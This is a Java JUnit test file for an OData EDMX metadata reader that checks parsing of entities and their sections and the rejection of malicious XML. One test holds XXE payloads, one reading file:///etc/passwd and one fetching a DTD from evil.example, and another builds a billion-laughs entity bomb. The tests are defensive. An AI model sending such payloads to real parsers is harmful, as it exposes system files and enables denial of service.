package orderhub.integration.accounting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.Optional;
import orderhub.accounting.document.Metadata;
import orderhub.accounting.document.Metadata.Field;
import orderhub.integration.http.WireJson;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MetadataReaderTest {
    private static final String DOCUMENT = """
            <EntityType Name="Document_X" OpenType="true">
              <Key><PropertyRef Name="Ref_Key"/></Key>
              <Property Name="Ref_Key" Type="Edm.Guid" Nullable="false"/>
              <Property Name="Комментарий" Type="Edm.String" Nullable="true" MaxLength="10"/>
              <Property Name="Товары" Type="Collection(StandardODATA.Document_X_Товары_RowType)" Nullable="true"/>
              <NavigationProperty Name="Склад" Relationship="StandardODATA.Document_X_Склад" FromRole="Begin" ToRole="End"/>
            </EntityType>
            <EntityType Name="Document_X_Товары">
              <Property Name="Ref_Key" Type="Edm.Guid" Nullable="false"/>
              <Property Name="LineNumber" Type="Edm.Int64" Nullable="false"/>
              <Property Name="Номенклатура_Key" Type="Edm.Guid" Nullable="true"/>
            </EntityType>
            """;
    private static final String ROWS = """
            <ComplexType Name="Document_X_Товары_RowType">
              <Property Name="LineNumber" Type="Edm.Int64" Nullable="false"/>
              <Property Name="Сумма" Type="Edm.Double" Nullable="true"/>
            </ComplexType>
            """;

    private static String edmx(String schema) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <edmx:Edmx xmlns:edmx="http://schemas.microsoft.com/ado/2007/06/edmx" Version="1.0">
                  <edmx:DataServices><Schema xmlns="http://schemas.microsoft.com/ado/2009/11/edm" Namespace="StandardODATA">
                """ + schema + "</Schema></edmx:DataServices></edmx:Edmx>";
    }

    private static Metadata read(String xml) {
        return MetadataReader.read(xml.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void anEntityHasItsFieldsAndTheRowsOfItsSections() {
        Metadata.Entity entity =
                read(edmx(DOCUMENT + ROWS)).entity("Document_X").orElseThrow();

        assertThat(entity.fields()).containsOnlyKeys("Ref_Key", "Комментарий");
        assertThat(entity.fields().get("Комментарий")).isEqualTo(new Field("Edm.String", false, Optional.of(10)));
        assertThat(entity.fields().get("Ref_Key").mustBeGiven()).isTrue();
        assertThat(entity.sections()).containsOnlyKeys("Товары");
        assertThat(entity.sections().get("Товары")).containsOnlyKeys("LineNumber", "Сумма");
    }

    @Test
    void withoutTypesOfRowsTheirEntitiesSayWhatIsInThem() {
        assertThat(read(edmx(DOCUMENT))
                        .entity("Document_X")
                        .orElseThrow()
                        .sections()
                        .get("Товары"))
                .containsOnlyKeys("LineNumber", "Номенклатура_Key");
    }

    @Test
    void whatIsNotPublishedIsNotThere() {
        String container = """
                <EntityContainer Name="EnterpriseV8" m:IsDefaultEntityContainer="true" xmlns:m="m">
                  <EntitySet Name="Document_X" EntityType="StandardODATA.Document_X"/></EntityContainer>""";

        assertThat(read(edmx(DOCUMENT + ROWS + container)).entities()).containsOnlyKeys("Document_X");
        assertThat(read(edmx(DOCUMENT + ROWS)).entities()).containsOnlyKeys("Document_X", "Document_X_Товары");
    }

    private static void unreadable(String xml, String why) {
        assertThatThrownBy(() -> read(xml))
                .isInstanceOf(WireJson.Unreadable.class)
                .hasMessageContaining(why);
    }

    @Test
    void aDeclarationOfADocumentTypeIsNotRead() {
        unreadable(
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
                        + edmx(DOCUMENT.replace("Document_X\"", "&e;\"")).substring(edmx("").indexOf("<edmx")),
                "");
        unreadable(
                "<!DOCTYPE x SYSTEM \"https://evil.example/x.dtd\">"
                        + edmx(DOCUMENT).substring(edmx("").indexOf("<edmx")),
                "document type");
    }

    @Test
    void aBombOfEntitiesDoesNotGoOff() {
        StringBuilder entities = new StringBuilder("<!ENTITY a0 \"lol\">");
        for (int i = 1; i < 30; i++) {
            entities.append("<!ENTITY a%d \"&a%d;&a%d;\">".formatted(i, i - 1, i - 1));
        }
        unreadable("<!DOCTYPE x [" + entities + "]><x>&a29;</x>", "");
    }

    @Test
    void whatIsNestedWithoutEndIsNotRead() {
        unreadable("<a>".repeat(100_000) + "</a>".repeat(100_000), "nested too deep");
    }

    @Test
    void tooManyTypesFieldsAttributesOrLettersAreNotRead() {
        StringBuilder types = new StringBuilder();
        for (int i = 0; i <= 20_000; i++) {
            types.append("<EntityType Name=\"T").append(i).append("\"/>");
        }
        unreadable(edmx(types.toString()), "too many types");
        unreadable(
                edmx("<EntityType Name=\"T\">" + "<Property Name=\"a\" Type=\"b\"/>".repeat(500_001) + "</EntityType>"),
                "too many fields");
        unreadable(edmx("<EntityType Name=\"" + "x".repeat(300) + "\"/>"), "too long");
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < 50; i++) {
            attributes.append(" a").append(i).append("=\"1\"");
        }
        unreadable(edmx("<EntityType Name=\"x\"" + attributes + "/>"), "no XML");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "{}",
                "<html><body>Вход</body></html>",
                "<a/>",
                "<edmx:Edmx xmlns:edmx='e'/>",
                "<edmx:Edmx xmlns:edmx='e'><EntityType/></edmx:Edmx>",
                "<edmx:Edmx xmlns:edmx='e'><EntityType Name='x'>"
            })
    void whatIsNoMetadataIsSaid(String body) {
        assertThatThrownBy(() -> read(body)).isInstanceOf(WireJson.Unreadable.class);
    }
}
